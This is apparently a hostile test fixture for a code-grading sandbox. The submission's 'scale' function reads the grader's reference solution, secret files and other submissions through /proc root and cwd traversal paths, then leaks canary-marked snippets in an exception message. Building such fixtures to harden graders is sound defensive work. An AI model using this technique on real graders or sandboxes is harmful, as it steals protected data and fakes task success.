import os

WANTED = ("@CHECKOUT@/tests/hostile/specs/fortress/reference.py", "@WORLD_FILE@", "@SECRET_FILE@", "@OTHER_SUBMISSION@")


def loot():
    found = []
    processes = [one for one in os.listdir("/proc") if one.isdigit()] if os.path.isdir("/proc") else []
    for process in ["self", "1", "@GRADER_PID@", str(os.getppid()), "thread-self", *processes]:
        for door in ("root", "cwd/../../../../../..", "task/self/root"):
            for path in WANTED:
                try:
                    found.append(open(f"/proc/{process}/{door}{path}").read())
                except OSError:
                    pass
    return found


WORD = "can" + "ary-"


def telling(found):
    """What tells most comes first: a message is cut."""
    texts = [str(one) for one in found]
    return [text[max(0, text.find(WORD) - 50) :][:150] for text in texts if WORD in text] or texts


def scale(x, factor):
    raise ValueError(f"loot: {telling(loot())}")
